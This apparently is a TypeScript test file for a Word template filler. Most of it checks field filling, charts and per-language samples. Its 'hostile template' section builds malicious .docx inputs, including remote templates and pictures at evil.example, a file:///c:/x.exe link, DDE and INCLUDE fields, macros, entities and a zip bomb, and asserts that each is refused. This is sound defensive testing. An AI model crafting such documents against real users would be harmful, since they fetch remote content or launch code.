import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { LANGUAGES } from '#shared/domain/lists.ts';
import { rasteriser } from '../charts/rasteriser.ts';
import { casesOf, FORMULAS, HOSTILE, hostileReport } from '../report/testing/hostile-texts.ts';
import { sampleReport } from '../report/testing/sample-report.ts';
import { templateFields, withKnown } from './fields.ts';
import { fillTemplate } from './fill-template.ts';
import { sampleTemplate } from './sample-template.ts';
import { decodeXml, parseXml } from './xml.ts';

const rootDir = fileURLToPath(new URL('../../../../', import.meta.url));
const pen = { language: 'de', rasterise: await rasteriser(rootDir, 'de') } as const;
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

/** A Word file of these blocks, with other parts beside it. */
function docx(blocks: string, others: Readonly<Record<string, string>> = {}, type = MAIN): Uint8Array {
  const parts = {
    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
    'word/document.xml': `<?xml version="1.0"?><w:document ${w}><w:body>${blocks}</w:body></w:document>`,
    ...others,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}
const p = (...runs: readonly string[]): string =>
  `<w:p>${runs.map((text) => `<w:r><w:rPr><w:b/></w:rPr><w:t>${text}</w:t></w:r>`).join('')}</w:p>`;
const row = (...cells: readonly string[]): string =>
  `<w:tr>${cells.map((text) => `<w:tc>${p(text)}</w:tc>`).join('')}</w:tr>`;

const report = sampleReport('de', 3);
const story = (title: string) => ({ title, note: '2026-A7-0001', body: `Zu ${title}.\n\nMehr {{office}}.` });
const told = {
  ...report,
  sections: [
    ...report.sections,
    {
      ...{ id: 'stories', title: 'Erfolge', figures: [], tables: [], charts: [] },
      stories: [story('Eins'), story('Zwei')],
    },
  ],
};
const fields = templateFields(told);

const xmlOf = (file: Uint8Array, part = 'word/document.xml'): string =>
  strFromU8(unzipSync(file)[part] ?? new Uint8Array());
function filled(blocks: string, others: Readonly<Record<string, string>> = {}): Uint8Array {
  const end = fillTemplate(docx(blocks, others), fields, pen);
  if (end.status !== 'filled') throw new Error(JSON.stringify(end));
  return end.bytes;
}
/** The texts of the paragraphs in their order. */
const paragraphs = (xml: string): string[] =>
  Array.from(xml.matchAll(/<w:p[ >][\s\S]*?<\/w:p>|<w:p>[\s\S]*?<\/w:p>/gu), ([one]) =>
    Array.from(one.matchAll(/<w:t\b[^>]*>([^<]*)<|<w:br\/>/gu), ([part, text]) =>
      part === '<w:br/>' ? '\n' : decodeXml(text ?? ''),
    ).join(''),
  );

describe('a template', () => {
  test('is filled also where a field is parted into runs, and keeps the look of its first letters', () => {
    const xml = xmlOf(filled(p('Büro: {', '{ off', 'ice }', '} und {{period}}!')));
    expect(paragraphs(xml)).toEqual([`Büro: ${report.office} und ${report.period.label}!`]);
    expect(xml.match(/<w:b\/>/gu)).toHaveLength(4);
  });

  test('repeats a row for each item of its list, and the paragraphs of a story together', () => {
    const rows = row('{{figures.name}}', '{{figures.value}} {{figures.unit}}');
    const table = `<w:tbl>${row('Name', 'Wert')}${rows}</w:tbl>`;
    const found = paragraphs(xmlOf(filled(table + p('{{stories.title}} ({{stories.case}})') + p('{{stories.text}}'))));
    const figures = report.sections.flatMap((section) => section.figures);
    expect(found.slice(2, 4)).toEqual([figures[0]?.name, `${fields.lists.figures?.items[0]?.value} `]);
    expect(found).toHaveLength(2 + 2 * figures.length + 6);
    // What a value holds is never taken for a field.
    const last = ['Eins', 'Zwei'].flatMap((title) => [`${title} (2026-A7-0001)`, `Zu ${title}.`, 'Mehr {{office}}.']);
    expect(found.slice(-6)).toEqual(last);
  });

  test('takes breakdowns, cases, single figures and headers', () => {
    const table = report.sections[0]?.tables[0];
    const blocks = `<w:tbl>${row(...(table?.columns ?? []).map(({ id }) => `{{table.${table?.id}.${id}}}`))}</w:tbl>
      <w:tbl>${row('{{cases.number}}', '{{cases.subject}}')}</w:tbl>${p('{{figure.answers.in-time.value}}')}`;
    const file = filled(blocks, { 'word/header1.xml': `<w:hdr ${w}>${p('{{title}}')}</w:hdr>` });
    const found = paragraphs(xmlOf(file));
    for (const cells of [...(table?.rows ?? []), ...report.cases.rows]) {
      const name = cells[0]?.kind === 'text' ? cells[0].text : '';
      expect(found).toContain(name);
    }
    expect(found.at(-1)).toBe('87,4\u00a0%');
    expect(paragraphs(xmlOf(file, 'word/header1.xml'))).toEqual([report.title]);
  });

  test.each([
    ['{{offize}}', 'offize'],
    ['{{figures.wert}}', 'figures.wert'],
    ['{{ein Wort}}', '{{ein Wort}}'],
    ['{{office', '{{office'],
    ['{{figures.name}} {{stories.title}}', 'stories.title'],
    ['{{constructor}}', 'constructor'],
  ])('that names what no report has is refused by its name: %s', (text, field) => {
    expect(fillTemplate(docx(p(text)), fields, pen)).toEqual({ status: 'unknown-field', field });
  });

  test('that names what only reports of today have is filled with nothing in an old one', () => {
    const old = templateFields({ ...report, sections: [] });
    const end = fillTemplate(
      docx(`${p('{{figure.answers.in-time.value}}.')}<w:tbl>${row('{{stories.title}}')}</w:tbl>`),
      withKnown(old, fields),
      pen,
    );
    expect(end.status === 'filled' && paragraphs(xmlOf(end.bytes))).toEqual(['.', '']);
  });
});

describe('a place for a picture', () => {
  const [drawn] = told.sections.flatMap((section) => section.charts);
  const plain = {
    ...{ id: 'meetings.side', title: 'Seite', keys: ['japan'] },
    columns: [
      { id: 'key', name: 'Seite', kind: 'text' },
      { id: 'count', name: 'Anzahl', kind: 'integer' },
    ],
    rows: [
      [
        { kind: 'text', text: 'Japan' },
        { kind: 'integer', value: 3 },
      ],
    ],
  } as const;
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="860" height="430" viewBox="0 0 860 430"></svg>';
  const map = {
    id: 'map',
    title: 'Karte',
    figures: [],
    tables: [plain],
    charts: [],
    pictures: [{ svg, alt: 'Bögen "A" & B' }],
  };
  const withMap = templateFields({ ...told, sections: [...told.sections, map] });
  const size = '<w:sectPr><w:pgSz w:w="9000" w:h="12000"/><w:pgMar w:left="1500" w:right="1500"/></w:sectPr>';

  test('takes the chart of a table as lines and pixels, as wide as the text, with its figures in words', () => {
    const blocks = p('Vor ', `{{chart.${drawn?.tableId}}}`, ' nach {{office}}') + size;
    const file = filled(blocks, { 'word/media/image1.png': 'x' });
    const xml = xmlOf(file);
    expect(() => parseXml(xml)).not.toThrow();
    expect(paragraphs(xml)).toEqual([`Vor  nach ${report.office}`]);
    expect(xml).toContain(`<wp:extent cx="${400 * 9525}"`);
    const [, alt = ''] = /<wp:docPr [^>]*descr="([^"]+)"/u.exec(xml) ?? [];
    expect(decodeXml(alt)).toBe(fields.pictures[`chart.${drawn?.tableId}`]?.alt);
    const parts = unzipSync(file);
    const [, pixels, lines] = /r:embed="(\w+)"[\s\S]*r:embed="(\w+)"/u.exec(xml) ?? [];
    const relations = xmlOf(file, 'word/_rels/document.xml.rels');
    const bytesOf = (id = '') =>
      parts[`word/${new RegExp(`Id="${id}"[^>]*Target="([^"]+)"`, 'u').exec(relations)?.[1]}`];
    expect(Buffer.from(bytesOf(pixels) ?? []).readUInt32BE(16)).toBe(800);
    expect(strFromU8(bytesOf(lines) ?? new Uint8Array())).toMatch(/^<svg/u);
    for (const ending of ['png', 'svg']) expect(xmlOf(file, '[Content_Types].xml')).toContain(`Extension="${ending}"`);
  });

  test('takes the map, also in a header, and bars of what the report itself does not draw', () => {
    const header = { 'word/header1.xml': `<w:hdr ${w}>${p('{{map}}')}</w:hdr>` };
    const end = fillTemplate(docx(p(`{{chart.${plain.id}}}`) + p('{{map}}'), header), withMap, pen);
    if (end.status !== 'filled') throw new Error(JSON.stringify(end));
    expect(xmlOf(end.bytes).match(/<w:drawing>/gu)).toHaveLength(2);
    expect(xmlOf(end.bytes)).toContain('Bögen &quot;A&quot; &amp; B');
    expect(xmlOf(end.bytes, 'word/_rels/header1.xml.rels').match(/<Relationship /gu)).toHaveLength(2);
    const ids = ['document', 'header1'].flatMap((part) =>
      Array.from(xmlOf(end.bytes, `word/${part}.xml`).matchAll(/<wp:docPr id="(\d+)"/gu), ([, id]) => id),
    );
    expect(new Set(ids).size).toBe(3);
  });

  test('stays empty where there is nothing to draw, and one that no report has is refused', () => {
    const empty = templateFields({ ...report, sections: [] });
    const end = fillTemplate(docx(p(`{{chart.${drawn?.tableId}}}`) + p('{{map}}')), withKnown(empty, fields), pen);
    expect(end.status === 'filled' && paragraphs(xmlOf(end.bytes))).toEqual(['', '']);
    expect(fillTemplate(docx(p('{{chart.nothing}}')), fields, pen)).toEqual({
      ...{ status: 'unknown-field', field: 'chart.nothing' },
    });
  });
});

describe.each(LANGUAGES)('the sample in %s', (language) => {
  const document = sampleReport(language, 3);
  const words = (key: string, values: Readonly<Record<string, string>> = {}) =>
    [key, ...Object.values(values)].join(' ');
  test('can be filled as it is, and names every field', async () => {
    const sample = await sampleTemplate(document, words);
    const known = templateFields(document);
    const end = fillTemplate(sample, known, pen);
    if (end.status !== 'filled') throw new Error(JSON.stringify(end));
    const text = paragraphs(xmlOf(end.bytes));
    expect(text.join('\n')).not.toContain('{{');
    expect(text).toContain(document.title);
    for (const { name, rule } of document.sections.flatMap((section) => section.figures)) {
      expect(text).toContain(name);
      expect(text).toContain(rule);
    }
    const names = [...Object.keys(known.texts).filter((name) => !name.startsWith('figure.'))];
    for (const [list, { columns }] of Object.entries(known.lists))
      names.push(...columns.map((column) => `${list}.${column}`));
    names.push(...Object.keys(known.pictures));
    for (const name of names) expect(text).toContain(name);
    const drawn = document.sections.filter(({ tables: [first] }) => first && known.pictures[`chart.${first.id}`]);
    expect(drawn.length).toBeGreaterThan(1);
    expect(xmlOf(end.bytes).match(/<w:drawing>/gu)).toHaveLength(drawn.length);
  });
});

describe('a hostile template', () => {
  const relation = (type: string, target: string) =>
    `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  const rels = (type: string, target: string) =>
    docx(p('x'), { 'word/_rels/document.xml.rels': relation(type, target) });
  const code = (...texts: readonly string[]) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}</w:p>`;
  test.each([
    ['no archive', strToU8('Hello'), 'not-word'],
    ['a workbook', zipSync({ '[Content_Types].xml': strToU8('<Types/>') }), 'not-word'],
    ['half a file', docx(p('x')).subarray(0, 200), 'damaged'],
    ['macros', docx(p('x'), { 'word/vbaProject.bin': 'x' }), 'macros'],
    [
      'a .docm under another name',
      docx(p('x'), {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'macros',
    ],
    ['an ActiveX control', docx(p('x'), { 'word/activeX/activeX1.xml': '<a/>' }), 'macros'],
    ['a template elsewhere', rels('attachedTemplate', 'http://evil.example/t.dotm'), 'outside'],
    ['a picture elsewhere', rels('image', 'https://evil.example/p.png'), 'outside'],
    ['a link that starts something', rels('hyperlink', 'file:///c:/x.exe'), 'outside'],
    ['a field that fetches', docx(code('DDE', 'AUTO c:\\\\x')), 'outside'],
    ['a field parted into runs', docx(code(' INCLUDE', 'TEXT &quot;http://evil.example&quot;')), 'outside'],
    ['an entity', docx('', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }), 'damaged'],
    ['tags that cross', docx('<w:p><w:r></w:p></w:r>'), 'damaged'],
    ['a deep nest', docx('<w:p>'.repeat(5000) + '</w:p>'.repeat(5000)), 'damaged'],
    ['a bomb', docx('', { 'word/media/a.bin': '\u0000'.repeat(110 * 1024 * 1024) }), 'too-large'],
  ] as const)('is refused: %s', (_, file, reason) => {
    expect(fillTemplate(file, fields, pen)).toEqual({ status: 'refused', reason });
  });

  test('a link of the web, and a field of Word’s own, are kept', () => {
    const file = docx(p('{{office}}') + code('HYPERLINK &quot;https://example.org/link&quot;') + code(' PAGE '), {
      'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.org/'),
    });
    expect(fillTemplate(file, fields, pen).status).toBe('filled');
  });

  test('any bytes give an answer', () => {
    const whole = docx(p('{{office}}'));
    const broken = fc.tuple(fc.nat(whole.length - 1), fc.integer({ min: 0, max: 255 }));
    fc.assert(
      fc.property(fc.array(broken, { maxLength: 6 }), (places) => {
        const bytes = Uint8Array.from(whole);
        for (const [at, value] of places) bytes[at] = value;
        let end: ReturnType<typeof fillTemplate> | 'thrown' = 'thrown';
        try {
          end = fillTemplate(bytes, fields, pen);
        } catch {
          // The worker's answer to a throw is that it crashed, which the caller tells like damage.
        }
        return end === 'thrown' || ['filled', 'refused', 'unknown-field'].includes(end.status);
      }),
      { numRuns: 200 },
    );
  });

  test.each([0, 5, 13])('what a record holds is text in it, never markup, a field or a code (%i)', (offset) => {
    const hostile = templateFields({ ...hostileReport(offset), language: 'en' });
    const table = `<w:tbl>${row('{{cases.subject}}', `{{cases.${report.cases.columns[7]?.id}}}`)}</w:tbl><w:tbl>${row('{{figures.name}}', '{{figures.rule}}')}</w:tbl>`;
    const end = fillTemplate(docx(p('{{title}} {{office}} {{author}}') + table), hostile, pen);
    if (end.status !== 'filled') throw new Error(JSON.stringify(end));
    const xml = xmlOf(end.bytes);
    expect(() => parseXml(xml)).not.toThrow();
    expect(/<w:(?:instrText|fldSimple|hyperlink|object)|<script/u.exec(xml)).toBeNull();
    expect(/(?![\t\n\r])\p{Cc}(?<![\u007f-\u009f])|[\ufffe\uffff]/u.exec(xml)).toBeNull();
    expect(xml.isWellFormed()).toBe(true);
  });

  test('texts come through as they were typed', () => {
    const texts = [...FORMULAS, ...HOSTILE].filter(
      (text) => !/[\r\n\u2028]|(?!\t)\p{Cc}/u.test(text) && text.isWellFormed(),
    );
    const end = fillTemplate(docx(`<w:tbl>${row('{{cases.subject}}')}</w:tbl>`), templateFields(casesOf(texts)), pen);
    expect(end.status === 'filled' && paragraphs(xmlOf(end.bytes))).toEqual(texts);
  });
});
